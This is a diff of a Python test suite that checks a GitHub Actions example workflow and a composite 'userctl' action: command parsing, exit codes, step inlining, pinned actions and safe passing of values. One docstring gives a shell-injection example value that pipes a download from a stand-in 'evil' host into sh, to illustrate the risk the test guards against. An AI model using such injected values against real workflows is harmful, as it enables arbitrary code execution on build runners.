@@ -1,7 +1,8 @@
-"""`examples/github-actions.yml` stays true: every `userctl` command it runs exists and accepts
-the options it is given, the exit codes it treats as success are the ones DESIGN §5 gives, its
-plan step behaves as intended when run as GitHub runs it, it installs userctl from the
-repository, and the read-only database role it recommends for the plan job does plan."""
+"""`examples/github-actions.yml` and the userctl action it uses (`action.yml`, composite) stay
+true: every `userctl` command they run exists and accepts the options it is given, the exit codes
+treated as success are the ones DESIGN §5 gives, each job behaves as intended when run as GitHub
+runs it (the action's steps inlined into the job that uses it), the action installs the userctl of
+its own commit, and the read-only database role recommended for the plan job does plan."""
 
 from __future__ import annotations
 
@@ -26,11 +27,22 @@ from tests.conftest import Factory, Runner
 from userctl.cli.main import cli
 
 WORKFLOW = Path(__file__).resolve().parents[2] / "examples" / "github-actions.yml"
+ACTION = WORKFLOW.parent.parent / "action.yml"
+# How the workflow names the action: the one of the repository's own checkout.
+THE_ACTION = "./"
+
+
+def _action() -> dict[str, Any]:
+    action = yaml.safe_load(ACTION.read_text(encoding="utf-8"))
+    assert action["runs"]["using"] == "composite"
+    return dict(action)
 
 
 def _steps() -> list[dict[str, Any]]:
+    """Every step the workflow can run: its jobs' own, and the action's once."""
     data = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
-    return [step for job in data["jobs"].values() for step in job["steps"]]
+    own = [step for job in data["jobs"].values() for step in job["steps"]]
+    return [s for s in own if s.get("uses") != THE_ACTION] + _action()["runs"]["steps"]
 
 
 def _userctl_commands() -> list[list[str]]:
@@ -60,13 +72,16 @@ def test_every_userctl_command_of_the_workflow_parses(monkeypatch: pytest.Monkey
 
 def test_the_workflow_plans_for_review_and_applies_the_reviewed_plan() -> None:
     validate, plan, _show, _replan, _show2, apply, _drift = _userctl_commands()
-    assert validate == ["validate", "-f", "users.yaml", "--format", "github"]
+    # The file is the action's `file` input, users.yaml unless the workflow says otherwise.
+    assert _action()["inputs"]["file"]["default"] == "users.yaml"
+    assert validate == ["validate", "-f", "$USERCTL_FILE", "--format", "github"]
     assert {"--format", "markdown", "--out", "plan.json", "--detailed-exitcode"} <= set(plan)
-    assert apply[:4] == ["apply", "plan.json", "-f", "users.yaml"] and "--yes" in apply
+    assert apply[:4] == ["apply", "plan.json", "-f", "$USERCTL_FILE"] and "--yes" in apply
     assert _job("apply")["env"]["USERCTL_OPERATOR"] == "${{ vars.USERCTL_OPERATOR }}"
     text = WORKFLOW.read_text(encoding="utf-8")
     assert "secrets.USERCTL_DATABASE_URL" in text
-    assert "actions/upload-artifact" in text and "gh run download" in text
+    steps = ACTION.read_text(encoding="utf-8")
+    assert "actions/upload-artifact" in steps and "gh run download" in steps
 
 
 # --- GitHub's expressions, as far as this workflow uses them -----------------------------------
@@ -228,6 +243,7 @@ def _run_job(
     the job is succeeding; `continue-on-error` keeps it from failing the job."""
     workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
     job = workflow["jobs"][name]
+    action = _action()
     root = tmp_path / name
     bin_dir, workdir, log, data = root / "bin", root / "work", root / "log", root / "gh"
     for d in (bin_dir, workdir, log, data):
@@ -253,8 +269,21 @@ def _run_job(
     ran: list[str] = []
     logs: dict[str, str] = {}
     succeeded = True
-    for i, step in enumerate(job["steps"]):
-        step_context = context | {
+    # The action's steps run in the job, in place of the step that uses it, with its inputs (the
+    # step's `with:`, expanded in the job's context, over the inputs' defaults) as `inputs`.
+    inlined: list[tuple[dict[str, Any], dict[str, str]]] = []
+    for step in job["steps"]:
+        if step.get("uses") != THE_ACTION:
+            inlined.append((step, context))
+            continue
+        given = {k: _expand(str(v), context) for k, v in step.get("with", {}).items()}
+        assert set(given) <= set(action["inputs"]), given
+        inputs_ = {k: str(spec.get("default", "")) for k, spec in action["inputs"].items()}
+        scope = {k: v for k, v in context.items() if not k.startswith("inputs.")}
+        scope |= {f"inputs.{k}": v for k, v in (inputs_ | given).items()}
+        inlined += [(inner, scope) for inner in action["runs"]["steps"]]
+    for i, (step, scope_context) in enumerate(inlined):
+        step_context = scope_context | {
             f"steps.{sid}.outputs.{k}": v for sid, out in outputs.items() for k, v in out.items()
         }
         if not succeeded or ("if" in step and not _evaluate(str(step["if"]), step_context)):
@@ -348,7 +377,7 @@ def test_the_plan_job_for_each_exit_code(
     # Whenever there is a plan, the whole of it goes to the job summary (the comment may be cut).
     assert (SUMMARY in run.ran) is commented
     if commented:
-        assert rest == [["show", "plan.json", "--format", "markdown", "--max-chars", "1000000"]]
+        assert rest == [["show", "plan.json", "--format", "markdown", "--max-bytes", "1000000"]]
         assert (run.workdir / "summary.md").read_text() == "## the full plan, every change\n"
     # 1 and 4 fail the job, after the comment when there is one.
     assert run.succeeded is job_succeeds
@@ -397,16 +426,24 @@ def _step(job: dict[str, Any], name: str) -> dict[str, Any]:
 
 
 def _job(name: str) -> dict[str, Any]:
+    """Job `name` with the action's steps in place of the step that uses it."""
     job = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"][name]
     assert isinstance(job, dict)
-    return job
+    steps = []
+    for step in job["steps"]:
+        steps += _action()["runs"]["steps"] if step.get("uses") == THE_ACTION else [step]
+    return {**job, "steps": steps}
 
 
 def test_the_comment_posts_the_markdown_and_the_artifact_is_the_saved_plan() -> None:
     comment, upload = _step(_job("plan"), COMMENT), _step(_job("plan"), UPLOAD)
     for exit_code in ("2", "3"):
-        assert _evaluate(comment["if"], {"steps.plan.outputs.exitcode": exit_code})
-        assert _evaluate(upload["if"], {"steps.plan.outputs.exitcode": exit_code})
+        context = {"inputs.command": "plan", "steps.plan.outputs.exitcode": exit_code}
+        assert _evaluate(comment["if"], context) and _evaluate(upload["if"], context)
+        # Only in the plan job: the action's other commands neither comment nor keep this plan.
+        for other in ("replan", "apply", "drift"):
+            assert not _evaluate(comment["if"], context | {"inputs.command": other})
+            assert not _evaluate(upload["if"], context | {"inputs.command": other})
     assert 'fs.readFileSync("plan.md", "utf8")' in comment["with"]["script"]
     assert upload["with"]["path"] == "plan.json" and upload["with"]["name"] == "userctl-plan"
 
@@ -440,9 +477,13 @@ def test_every_job_has_a_timeout() -> None:
 def test_every_action_is_pinned_to_a_commit() -> None:
     uses = [
         line.strip()
-        for line in WORKFLOW.read_text(encoding="utf-8").splitlines()
+        for path in (WORKFLOW, ACTION)
+        for line in path.read_text(encoding="utf-8").splitlines()
         if line.strip().startswith(("uses:", "- uses:"))
     ]
+    # The userctl action itself is the checkout's own (the same commit as the workflow).
+    assert [u for u in uses if u.endswith(f"uses: {THE_ACTION}")] == ["- uses: ./"] * 4
+    uses = [u for u in uses if not u.endswith(f"uses: {THE_ACTION}")]
     assert len(uses) >= 10
     for line in uses:
         # owner/name@<40 hex digits>, and the tag it stands for in a comment for the reader
@@ -454,8 +495,8 @@ def test_every_action_is_pinned_to_a_commit() -> None:
 def test_no_value_is_pasted_into_a_script() -> None:
     """Variables, inputs and step outputs reach `run:` scripts through `env:` only: pasted into
     the script's text, a value such as `x"; curl evil | sh; "` would run as shell code."""
-    for name, job in yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"].items():
-        for step in job["steps"]:
+    for name in yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]:
+        for step in _job(name)["steps"]:
             assert "${{" not in step.get("run", ""), (name, step.get("name"))
     assert "vars.USERCTL_OPERATOR" in _job("apply")["env"]["USERCTL_OPERATOR"]
     # The pull request's title becomes the plan's reason, through the environment too.
@@ -647,7 +688,7 @@ def test_the_re_plan_job(tmp_path: Path, code: int, uploaded: bool, succeeds: bo
         "markdown",
         "--out",
     ]
-    assert (UPLOAD in run.ran) is uploaded
+    assert ("Keep the re-plan for approval and apply" in run.ran) is uploaded
     if code != 1:
         assert "run this workflow with plan_run_id 7" in (run.workdir / "summary.md").read_text()
 
@@ -772,18 +813,20 @@ def test_the_plan_comment_is_posted_once_then_updated(tmp_path: Path) -> None:
 
 
 def test_userctl_is_installed_from_the_repository_not_pypi() -> None:
+    """The action installs the userctl of its own commit (its directory), after the job's
+    checkout; no job installs anything else."""
     pyproject = tomllib.loads(
         (WORKFLOW.parent.parent / "pyproject.toml").read_text(encoding="utf-8")
     )
     assert "postgres" in pyproject["project"]["optional-dependencies"]
+    installs = [
+        s["run"].strip() for s in _action()["runs"]["steps"] if "pip install" in s.get("run", "")
+    ]
+    assert installs == ['pip install "${GITHUB_ACTION_PATH}[postgres]"']
     for name in ("plan", "replan", "apply", "drift"):
-        steps = _job(name)["steps"]
-        installs = [i for i, s in enumerate(steps) if "pip install" in s.get("run", "")]
-        assert [steps[i]["run"].strip() for i in installs] == ['pip install ".[postgres]"'], name
-        checkout = next(
-            i for i, s in enumerate(steps) if str(s.get("uses", "")).startswith("actions/checkout@")
-        )
-        assert checkout < installs[0], name
+        steps = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"][name]["steps"]
+        assert [s.get("uses", "").split("@")[0] for s in steps] == ["actions/checkout", THE_ACTION]
+        assert not any("run" in s for s in steps), name
     assert set(yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]) == {
         "plan",
         "replan",
@@ -900,9 +943,11 @@ def test_the_apply_step_applies_the_reviewed_plan_and_refuses_one_the_merged_fil
     monkeypatch.chdir(tmp_path)
     assert run("export", "-o", "users.yaml").exit_code == 0
     merged = Path("users.yaml").read_text(encoding="utf-8")
+    apply_step = _step(_job("apply"), "Apply")
+    assert apply_step["env"]["USERCTL_FILE"] == "${{ inputs.file }}"
     (line,) = [
-        line.strip()
-        for line in _step(_job("apply"), "Apply")["run"].splitlines()
+        line.strip().replace('"$USERCTL_FILE"', _action()["inputs"]["file"]["default"])
+        for line in apply_step["run"].splitlines()
         if line.strip().startswith("userctl ")
     ]
     command = shlex.split(line)[1:]
